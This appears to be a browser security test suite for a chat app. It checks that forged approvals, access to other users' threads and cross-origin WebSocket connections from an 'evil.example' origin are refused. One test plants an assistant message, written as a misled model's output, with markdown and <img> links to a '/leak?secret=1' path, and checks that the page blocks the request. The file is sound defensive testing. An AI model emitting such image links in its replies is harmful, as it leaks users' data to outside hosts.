"""What the chat refuses: forged actions, other people's things, foreign pages, text that phones home."""

from __future__ import annotations

import http.client
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.chat import SOON_MS, Chat
from tests.browser.conftest import Parley, apart
from tests.world import World

pytestmark = [pytest.mark.browser, pytest.mark.postgres, pytest.mark.slow]


@pytest.fixture(scope="module")
def bob(parley: Parley, chromium: Browser) -> Iterator[Chat]:
    """Somebody who may propose and not approve."""
    parley.add_person("bob", "bobs-password", "author")
    chat = Chat.open(chromium, parley.address, session=parley.session(chromium, "bob", "bobs-password"))
    chat.watch_session()
    chat.visit()
    chat.say("help")
    assert chat.conversation
    yield chat
    chat.close()


@pytest.fixture(scope="module")
def proposed(parley: Parley, chromium: Browser, admin: Any) -> Iterator[tuple[Chat, dict[str, Any]]]:
    """The administrator's conversation with an open proposal, and what its card shows; only the last test of forged actions decides."""
    chat = Chat.open(chromium, parley.address, session=admin)
    chat.watch_session()
    chat.visit()
    chat.say("Fetch https://shop.example/orders, then post them to https://shop.example/report")
    chat.sees("proposal", "Waiting for your decision")
    thread = chat.page.request.get(f"{parley.address}/project/thread/{chat.conversation}").json()
    yield chat, next(element["props"] for element in thread["elements"] if element["name"] == "ProposalCard")
    chat.close()


class TestForgedActions:
    def test_somebody_without_the_right_cannot_approve_and_nothing_changes(self, bob: Chat, proposed: tuple[Chat, dict[str, Any]]) -> None:
        admin, card = proposed

        status, body = bob.action("decide", {"proposal": card["id"], "digest": card["digest"], "do": "approve"})

        assert (status, body["detail"]["code"]) == (403, "forbidden")
        admin.reload()
        admin.sees("proposal", "Waiting for your decision")

    def test_a_stale_digest_is_a_conflict_in_words(self, proposed: tuple[Chat, dict[str, Any]]) -> None:
        admin, card = proposed

        status, body = admin.action("decide", {"proposal": card["id"], "digest": "sha256:" + "0" * 64, "do": "approve"})

        assert (status, body["detail"]["code"]) == (409, "stale-digest")

    def test_more_than_ids_is_refused(self, proposed: tuple[Chat, dict[str, Any]]) -> None:
        admin, card = proposed

        status, _ = admin.action("decide", {"proposal": card["id"], "digest": card["digest"], "do": "approve", "yaml": "do: []"})

        assert status == 422

    def test_a_proposal_that_was_not_approved_does_not_start(self, proposed: tuple[Chat, dict[str, Any]]) -> None:
        admin, card = proposed
        runs = [run["id"] for run in admin.page.request.get(f"{admin.address}/api/runs").json()]

        status, _ = admin.action("start", {"proposal": card["id"], "digest": card["digest"]})

        assert status == 422
        assert [run["id"] for run in admin.page.request.get(f"{admin.address}/api/runs").json()] == runs

    def test_a_browser_cannot_write_a_card(self, proposed: tuple[Chat, dict[str, Any]], parley: Parley) -> None:
        admin, card = proposed
        element = {"id": card["id"], "type": "custom", "name": "ProposalCard", "display": "inline", "props": {}}

        reply = admin.page.request.put(f"{parley.address}/project/element", data={"element": element, "sessionId": "x"})

        assert reply.status == 403

    def test_approving_twice_is_one_decision(self, proposed: tuple[Chat, dict[str, Any]]) -> None:
        admin, card = proposed
        payload = {"proposal": card["id"], "digest": card["digest"], "do": "approve"}

        assert [admin.action("decide", payload)[0] for _ in range(2)] == [200, 200]
        admin.sees("proposal", "Approved by admin")


class TestOtherPeoplesConversations:
    def test_cannot_be_read_renamed_or_deleted(self, bob: Chat, proposed: tuple[Chat, dict[str, Any]], parley: Parley) -> None:
        admin, _ = proposed
        thread = admin.conversation
        ask = bob.page.request

        assert ask.get(f"{parley.address}/project/thread/{thread}").status == 403
        assert ask.put(f"{parley.address}/project/thread", data={"threadId": thread, "name": "mine"}).status == 403
        assert ask.delete(f"{parley.address}/project/thread", data={"threadId": thread}).status == 403
        assert admin.page.request.get(f"{parley.address}/project/thread/{thread}").status == 200

    def test_one_that_is_not_there_is_a_404(self, bob: Chat, parley: Parley) -> None:
        assert bob.page.request.get(f"{parley.address}/project/thread/{uuid.uuid4()}").status == 404

    def test_opening_its_address_shows_nothing_of_it(
        self, parley: Parley, chromium: Browser, proposed: tuple[Chat, dict[str, Any]], bob: Chat
    ) -> None:
        visitor = Chat.open(chromium, parley.address, session=bob.context.storage_state())

        visitor.page.goto(f"{parley.address}/thread/{proposed[0].conversation}")

        expect(visitor.page.get_by_text("What shall I take care of?")).to_be_visible(timeout=SOON_MS)
        assert visitor.page.get_by_test_id("proposal-card").count() == 0
        visitor.close()

    def test_are_not_listed(self, bob: Chat, proposed: tuple[Chat, dict[str, Any]], parley: Parley) -> None:
        listed = bob.page.request.post(f"{parley.address}/project/threads", data={"pagination": {"first": 100}, "filter": {}}).json()

        assert {thread["userIdentifier"] for thread in listed["data"]} == {"default/bob"}


class TestForeignPages:
    @pytest.mark.parametrize("origin", ["https://evil.example", "null"])
    def test_cannot_open_the_socket(self, parley: Parley, origin: str) -> None:
        place = urlsplit(parley.address)
        connection = http.client.HTTPConnection(str(place.hostname), place.port, timeout=10)
        upgrade = {
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        }

        connection.request("GET", "/ws/socket.io/?EIO=4&transport=websocket", headers={**upgrade, "Origin": origin})

        assert connection.getresponse().status == 403
        connection.close()

    def test_an_image_in_a_message_does_not_leave(self, parley: Parley, chat: Chat, shop: tuple[World, str]) -> None:
        world, address = shop
        chat.say("help")
        thread = chat.conversation
        apart(_plant(parley, thread, f"Look: ![x]({address}/leak?secret=1) and <img src='{address}/leak2'>"))

        chat.reload()

        expect(chat.page.get_by_text("Look:")).to_be_visible(timeout=SOON_MS)
        chat.page.wait_for_timeout(500)
        assert len(world.saw("GET /leak")) + len(world.saw("GET /leak2")) == 0
        chat.foreign.clear()  # the request was made up by the page and stopped by its policy


async def _plant(parley: Parley, thread: str, text: str) -> None:
    """Write a message as a misled model would have."""
    from app.container import Container
    from app.settings import Settings
    from app.web.chat_store import ChatStore
    from app.web.clock import utc_now
    from app.web.identity import Identity

    async with Container.open(Settings(home=parley.home), role="cli") as container:
        now = utc_now()
        at = {"createdAt": now, "start": now, "end": now}
        step = {"id": str(uuid.uuid4()), "threadId": thread, "name": "Parley", "type": "assistant_message", "output": text}
        await ChatStore(container.store.database).put_step(Identity("default", "admin"), {**step, **at})
